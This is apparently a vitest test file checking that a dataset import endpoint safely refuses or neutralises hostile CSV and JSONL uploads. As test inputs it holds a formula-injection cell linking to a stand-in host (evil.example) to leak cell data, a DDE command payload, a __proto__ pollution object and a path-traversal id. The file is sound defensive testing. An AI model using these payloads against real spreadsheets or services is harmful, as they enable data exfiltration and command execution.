import { beforeAll, describe, expect, it } from 'vitest';
import { testApp, type TestApp } from '../../test/helpers.ts';
import { testMetrics } from '../../test/evaluation-fixtures.ts';
import { createWorkerPool } from '../../runtime/node/offload.ts';

describe('datasets: hostile imports', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await testApp({ plugins: [testMetrics], env: { AEH_MAX_BODY_BYTES: '200000' } });
  });
  const post = async (raw: BodyInit, type = 'text/csv') => {
    const response = await t.request('POST', '/api/v1/datasets/import', { raw, headers: { 'content-type': type } });
    return { status: response.status, body: await response.json() };
  };

  it('refuses a file over AEH_MAX_BODY_BYTES with 413, also when streamed without a length', async () => {
    const huge = `input,expected\n${'a,b\n'.repeat(60_000)}`;
    expect((await post(huge)).status).toBe(413);
    const stream = new ReadableStream<Uint8Array>({ start(controller) { for (let i = 0; i < 30; i++) controller.enqueue(new TextEncoder().encode('x'.repeat(10_000))); controller.close(); } });
    const response = await t.app.request('/api/v1/datasets/import', { method: 'POST', body: stream, headers: { 'content-type': 'text/csv', 'x-api-key': 'a'.repeat(64) }, duplex: 'half' } as RequestInit);
    expect(response.status).toBe(413);
  });

  it('refuses more than 10,000 rows', async () => {
    const many = `input,expected\n${'a,b\n'.repeat(10_001)}`;
    const { status, body } = await post(many);
    expect(status).toBe(400);
    expect(body.errors[0].path).toBe('/rows');
  });

  it('keeps formula cells verbatim as text, never evaluated, and warns about them', async () => {
    const csv = 'input,expected,metrics\n"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@SUM(1+1),task_success\n+1+1,-2,task_success';
    const { status, body } = await post(csv);
    expect(status).toBe(200);
    expect(body.scenario.tasks[0].input).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(body.scenario.tasks[0].expected).toEqual({ contains: '@SUM(1+1)' });
    expect(body.scenario.tasks[1].input).toBe('+1+1');
    expect(body.warnings.map((warning: any) => warning.path)).toEqual(['/rows/1/input', '/rows/1/expected', '/rows/2/input', '/rows/2/expected']);
  });

  it('refuses a formula posing as a metric', async () => {
    const { status, body } = await post('input,expected,metrics\nhi,x,"=cmd|\' /C calc\'!A0"');
    expect(status).toBe(400);
    expect(body.errors[0].path).toBe('/rows/1/metrics/0');
  });

  it('refuses bad UTF-8 naming the line', async () => {
    const bytes = new Uint8Array([...new TextEncoder().encode('input,expected\nok,x\n'), 0x66, 0xc3, 0x28, 0x2c, 0x78, 0x0a]);
    const { status, body } = await post(bytes);
    expect(status).toBe(400);
    expect(body.errors[0].path).toBe('/lines/3');
  });

  it('names ragged rows, and reads a byte order mark and CRLF line ends', async () => {
    const { status, body } = await post('input,expected\nok,x\ntoo,many,cells\nshort\nfine,y');
    expect(status).toBe(400);
    expect(body.errors.map((error: any) => [error.path, error.message])).toEqual([['/rows/2', 'has 3 cells; the header has 2'], ['/rows/3', 'has 1 cells; the header has 2']]);
    const bom = await post('\uFEFFinput,expected\r\nok,x\r\n');
    expect(bom.status).toBe(200);
    expect(bom.body.scenario.tasks[0]).toMatchObject({ input: 'ok', expected: { contains: 'x' } });
  });

  it('refuses malformed CSV, a duplicate header, an empty file and the wrong content type without a 500', async () => {
    expect((await post('input,expected\n"unterminated,x\n')).status).toBe(400);
    expect((await post('input,input\na,b')).body.errors[0].path).toBe('/header');
    expect((await post('')).status).toBe(400);
    expect((await post('input\nx', 'text/plain')).status).toBe(415);
    const jsonl = await post('{"input": "a", "expected": "b"}\nnot json\n[1,2]\n', 'application/x-ndjson');
    expect(jsonl.body.errors.map((error: any) => error.path)).toEqual(['/rows/2', '/rows/3']);
    const proto = await post('{"input": "a", "expected": "b", "__proto__": {"polluted": true}}', 'application/x-ndjson');
    // Refused as a column the import does not read, and nothing was polluted on the way.
    expect(proto.status).toBe(400);
    expect(proto.body.errors.map((error: any) => error.path)).toEqual(['/rows/1/__proto__']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses a cell over 100,000 characters and a task id that could be a path', async () => {
    const json = (data: string) => t.json('POST', '/api/v1/datasets/import', { body: { format: 'jsonl', data } });
    expect((await json(JSON.stringify({ input: 'x'.repeat(100_001), expected: 'y' }))).body.errors[0].path).toBe('/rows/1/input');
    expect((await json(JSON.stringify({ id: '../../etc', input: 'x', expected: 'y' }))).body.errors[0].path).toBe('/rows/1/id');
  });
});

describe('datasets: wide and large imports (issue 25 item 6)', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await testApp({ plugins: [testMetrics], env: { AEH_MAX_BODY_BYTES: '2000000' } });
  });
  const post = async (target: TestApp, raw: BodyInit, type = 'text/csv') => {
    const response = await target.request('POST', '/api/v1/datasets/import', { raw, headers: { 'content-type': type } });
    return { status: response.status, body: await response.json() };
  };

  it('refuses a header wider than 64 columns, naming the cap, and a 0.7 MB header line as too long a record', async () => {
    const header = (count: number) => ['input', 'expected', ...Array.from({ length: count - 2 }, (_, index) => `note${index}`)].join(',');
    const wide = await post(t, `${header(30_000)}\nhello,x\n`);
    expect([wide.status, wide.body.errors]).toEqual([400, [{ path: '/header', message: 'more than 64 columns' }]]);
    expect(wide.body.detail).toBe('the header has 30000 columns; an import may have 64');
    const huge = await post(t, `${header(60_000)}\nhello,x\n`);
    expect([huge.status, huge.body.errors]).toEqual([400, [{ path: '/lines/1', message: 'malformed CSV' }]]);
    expect(huge.body.detail).toMatch(/Max Record Size/);
    expect((await post(t, `${header(65)}\nhello,x\n`)).body.errors[0].path).toBe('/header');
    // 64 passes the width check (the unread columns are then named, once each); a duplicate at the end of a wide header is still found.
    const sixtyFour = await post(t, `${header(64)}\n${['hello', 'x', ...Array(62).fill('')].join(',')}\n`);
    expect(sixtyFour.body.errors.every((error: { path: string }) => /^\/rows\/1\/note\d+$/.test(error.path))).toBe(true);
    const duplicate = await post(t, `${header(63)},note3\nhello,x\n`);
    expect(duplicate.body.errors).toEqual([{ path: '/header', message: '"note3" twice' }]);
  });

  it('refuses a JSONL row with more than 64 keys, and names an unknown column once, not once a row, as an error', async () => {
    const wide = JSON.stringify(Object.fromEntries([['input', 'a'], ['expected', 'b'], ...Array.from({ length: 63 }, (_, index) => [`k${index}`, 1])]));
    const refused = await post(t, `${wide}\n`, 'application/x-ndjson');
    expect(refused.body.errors).toEqual([{ path: '/rows/1', message: 'has 65 keys; a row may have 64' }]);
    const noted = await post(t, 'input,expected,notes\na,b,one\nc,d,two\ne,f,three\n');
    // Never dropped in silence: an error naming the column, once.
    expect(noted.status).toBe(400);
    expect(noted.body.errors).toEqual([{ path: '/rows/1/notes', message: expect.stringMatching(/^is not a column this import reads/) }]);
  });

  it('reads a large import in the worker pool as it reads it inline, and past AEH_DATASET_BUDGET_MS answers 422', async () => {
    const rows = Array.from({ length: 5000 }, (_, index) => `Question number ${index} about the account balance,${index} EUR,task_success,finance`);
    const csv = `input,expected,metrics,tags\n${rows.join('\n')}\n`;
    expect(csv.length).toBeGreaterThan(64 * 1024);
    const pool = createWorkerPool({ size: 1 });
    try {
      const pooled = await testApp({ plugins: [testMetrics], env: { AEH_MAX_BODY_BYTES: '2000000' }, capabilities: { offload: pool } });
      const [inWorker, inline] = await Promise.all([post(pooled, csv), post(t, csv)]);
      expect(inWorker.status).toBe(200);
      expect(inWorker.body).toEqual(inline.body);
      expect(inWorker.body.rows).toBe(5000);
      // A budget no parse of 300 KB can meet: the worker is stopped and the caller told which setting to raise.
      const strict = await testApp({ plugins: [testMetrics], env: { AEH_MAX_BODY_BYTES: '2000000', AEH_DATASET_BUDGET_MS: '1' }, capabilities: { offload: pool } });
      const order: string[] = [];
      const importing = post(strict, csv).then((result) => {
        order.push('import');
        return result;
      });
      expect((await strict.request('GET', '/healthz', { key: null })).status).toBe(200);
      order.push('healthz');
      const refused = await importing;
      expect(order).toEqual(['healthz', 'import']);
      expect([refused.status, refused.body.code, refused.body.budget_ms]).toEqual([422, 'budget_exceeded', 1]);
      expect(refused.body.detail).toMatch(/not read within 1 ms \(AEH_DATASET_BUDGET_MS\)/);
    } finally {
      await pool.close();
    }
  }, 60_000);
});
